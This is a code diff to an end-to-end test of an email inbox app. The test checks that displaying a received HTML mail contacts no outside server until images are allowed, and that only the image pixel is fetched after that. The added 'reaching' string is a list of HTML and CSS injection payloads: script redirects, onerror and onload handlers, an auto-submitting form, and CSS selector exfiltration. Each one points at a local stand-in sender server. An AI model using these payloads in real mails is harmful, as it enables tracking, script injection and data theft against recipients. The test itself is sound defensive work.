@@ -1,3 +1,6 @@
+import { once } from 'node:events'
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
 import { type MailDouble, startMailDouble, writeMail } from '@inbox/mail-double'
 import { waitFor } from '@inbox/testing'
 import { beforeAll, expect, test } from '@jest/globals'
@@ -72,7 +75,8 @@ export function attaching(): void {
   })
   test('a mail arrives and is read folded; its answer, with two files and bold words, reaches the SMTP server as one mail of the thread', async () => {
     await using mail = await startMailDouble()
-    const anna = await customerOf(mail)
+    await using elsewhere = await startElsewhere()
+    const anna = await customerOf(mail, `They leak.${reaching(elsewhere.url)}`)
     await using mia = await signIn(team.workers[1]!)
     const { page } = mia
     await goTo(page, 'queue')
@@ -98,10 +102,21 @@ export function attaching(): void {
     expect(raw).toContain(`In-Reply-To: ${sent}`)
     expect(raw).toContain('<strong>the bill</strong>')
     for (const name of ['one.csv', 'two.csv']) expect(raw).toContain(`filename=${name}`)
+
+    await messages.getByRole('button', { name: 'Show original' }).click()
+    const frame = page.frameLocator('iframe')
+    await frame.getByText('They leak.').waitFor()
+    expect(await barriers(page)).toEqual([])
+    expect(elsewhere.connections()).toBe(0)
+    // through media, and nothing but what is a picture
+    await messages.getByRole('button', { name: 'Show images' }).click()
+    await waitFor(() => elsewhere.connections() > 0)
+    await frame.getByText('They leak.').waitFor()
+    expect(elsewhere.asked).toEqual(['/pixel.gif'])
   })
 
   /** Somebody who has written to the team's mailbox. */
-  async function customerOf({ office, port }: MailDouble) {
+  async function customerOf({ office, port }: MailDouble, html: string) {
     const address = 'team@azulejo.example'
     const smtp = { smtpHost: '127.0.0.1', smtpPort: port, smtpSecure: false }
     const key = await team.connect('email', { address, ...smtp })
@@ -116,9 +131,43 @@ export function attaching(): void {
     })
     const anna = office.customerAt('anna@customers.example', 'Anna Mail')
     const text = 'They leak.\n\nOn Mon, 2 Mar 2026 at 10:00, Team <team@azulejo.example> wrote:\n> Earlier words'
-    const write = () => writeMail(office, anna, { to: address, subject: 'Boots', text })
+    const write = () => writeMail(office, anna, { to: address, subject: 'Boots', text, html })
     // until channel-adapters knows the key
     await waitFor(() => write().catch(() => undefined), { timeoutMs: 30_000 })
     return anna
+  }
+}
+
+/** What mails have in them that is to tell their senders who reads them, or more. */
+const reaching = (url: string) => `
+<link rel=preconnect href="${url}"><link rel=prefetch href="${url}/prefetch"><link rel=stylesheet href="${url}/style.css">
+<meta http-equiv=refresh content="0;url=${url}/refresh"><style>@import url(${url}/import.css); p{background:url(${url}/background)}
+@font-face{font-family:x;src:url(${url}/font)} input[value^=a]{background:url(${url}/exfiltrated)}</style>
+<script>location='${url}/script'</script><p style="font-family:x">.</p><img src="${url}/pixel.gif"><img src=x onerror="location='${url}/error'">
+<svg onload="location='${url}/load'"><image href="${url}/drawn"/></svg><form action="${url}/form"><input value=abc autofocus
+onfocus="this.form.submit()"></form><iframe src="${url}/frame"></iframe><object data="${url}/object"></object><video poster="${url}/poster"
+src="${url}/video" autoplay></video><picture><source srcset="${url}/source"></picture>`
+
+/** A server of whoever wrote a mail. */
+async function startElsewhere() {
+  const asked: (string | undefined)[] = []
+  let connections = 0
+  const server = createServer(({ url }, response) => {
+    asked.push(url)
+    response.setHeader('content-type', 'image/gif').end()
+  })
+  server.on('connection', () => {
+    connections += 1
+  })
+  server.listen(0, '127.0.0.1')
+  await once(server, 'listening')
+  return {
+    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
+    asked,
+    connections: () => connections,
+    async [Symbol.asyncDispose]() {
+      server.close()
+      server.closeAllConnections()
+    }
   }
 }
